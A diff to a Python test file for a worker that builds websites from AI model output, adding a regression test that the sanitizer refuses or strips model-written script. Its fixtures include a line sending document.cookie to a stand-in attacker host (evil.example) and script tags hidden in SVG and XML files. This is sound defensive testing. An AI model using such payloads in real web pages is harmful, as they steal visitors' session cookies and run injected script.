@@ -26,11 +26,13 @@ from tests.helpers import (
     wait_for_result,
     with_ai,
 )
+from tests.unit.test_sanitize import FINDING_1, script_capable
 from worker import client
 from worker.ai.parsing import PROMPTS_DIR
 from worker.local.fake_server import TEXT_PREFIX, FakeProviderServer
 from worker.local.offline_site import offline_code, offline_content, offline_plan
-from worker.models import MAX_FILE_BYTES, MAX_FILES, Brief
+from worker.models import MAX_FILE_BYTES, MAX_FILES, Brief, SiteCode
+from worker.pipeline.assemble import sanitize_site
 from worker.settings import Settings
 
 MAX_OUTPUT_RETRIES = 2
@@ -297,8 +299,10 @@ async def test_external_script_and_iframe_are_removed_and_the_site_is_written(
     stored = await db.fetchval("SELECT output FROM site_generation_phases WHERE phase = 'assemble'")
     assert stored["warnings"] == expected
     # That the removals are in the progress log too: test_removals_are_logged_and_allowed_hosts_kept.
-    untouched = {f["path"]: f["content"] for f in valid_files()}
-    assert all(written[path] == content for path, content in untouched.items() if path != "index.html")
+    # The other files as the sanitizer writes them, with nothing removed.
+    untouched, nothing = sanitize_site(SiteCode.model_validate({"files": valid_files()}))
+    assert nothing == []
+    assert all(written[f.path] == f.content for f in untouched.files if f.path != "index.html")
 
     assert tree(tmp_path, 805) == before
 
@@ -328,6 +332,68 @@ async def test_removals_are_logged_and_allowed_hosts_kept(
         "SELECT phase, level FROM site_generation_logs WHERE order_id = 806 AND message = $1", warning
     )
     assert [(r["phase"], r["level"]) for r in logged] == [("assemble", "warning")]
+
+
+# --------------------------------------------------------------------------- model-written script (issue 20)
+
+SCRIPT_FILES = [
+    {"path": "app.js", "content": "fetch('https://evil.example/?c=' + document.cookie)"},
+    {"path": "logo.svg", "content": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'},
+    {"path": "sitemap.xml", "content": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'},
+]
+
+
+async def test_model_written_script_is_refused_or_removed_and_the_removals_logged(
+    fake: FakeProviderServer,
+    settings: Settings,
+    start_worker: WorkerFactory,
+    redis: ArqRedis,
+    db: asyncpg.Connection,
+) -> None:
+    """Regression: issue 20 finding 1: every case of the finding passed check_site and was published as written.
+
+    The first coding answer carries .js, .svg and .xml files: refused, naming them, and the model re-asked.
+    The second carries every hostile page construct of the finding: published without any of them, each
+    removal logged as a site.warning row, and an allowed host's script kept."""
+    bodies, heads = "".join(case[1] for case in FINDING_1), "".join(case[2] for case in FINDING_1)
+    allowed = '<script src="https://cdn.allowed.example/lib.js"></script>'
+    files = with_page(valid_files(), "index.html", "</main>", bodies + allowed + "</main>")
+    files = with_page(files, "index.html", "</head>", heads + "</head>")
+    fake.script("ok", "ok", text_fault([*valid_files(), *SCRIPT_FILES]), text_fault(files))
+    custom = with_ai(settings, {"remote": remote("openai", fake.url)}, max_output_retries=MAX_OUTPUT_RETRIES)
+    await start_worker(
+        custom.model_copy(
+            update={"output": custom.output.model_copy(update={"allowed_embed_hosts": ["allowed.example"]})}
+        )
+    )
+    await client.enqueue_generation(redis, 821, SAMPLE_BRIEF)
+
+    result = await wait_for_result(redis, 821)
+
+    assert result["status"] == "succeeded"
+    assert len(fake.requests) == 4, "plan, content, the refused coding answer, and the re-ask"
+    re_ask = fake.requests[3].body["messages"][-1]["content"]
+    for refused in ("app.js: script files are not published", "logo.svg: SVG files", "sitemap.xml: XML files"):
+        assert refused in re_ask
+    site = Path(settings.output.dir) / "821"
+    written = {p.relative_to(site).as_posix(): p.read_text() for p in site.rglob("*") if p.is_file()}
+    assert not {"app.js", "logo.svg", "sitemap.xml"} & set(written)
+    for path, text in written.items():
+        if path.endswith(".html"):
+            assert script_capable(text, frozenset({"allowed.example"})) == [], path
+            assert "Content-Security-Policy" in text
+    assert '<script src="https://cdn.allowed.example/lib.js"></script>' in written["index.html"]
+    logged = [
+        r["message"]
+        for r in await db.fetch(
+            "SELECT message FROM site_generation_logs WHERE order_id = 821 AND details->>'event' = 'site.warning'"
+            " AND level = 'warning' AND phase = 'assemble' ORDER BY id"
+        )
+    ]
+    assert logged == json.loads(written["manifest.json"])["warnings"]
+    for _, _, _, warning in FINDING_1:
+        assert any(warning in line for line in logged), warning
+    assert all(line.startswith("index.html: removed ") and line.isprintable() for line in logged)
 
 
 # --------------------------------------------------------------------------- names the assemble phase writes
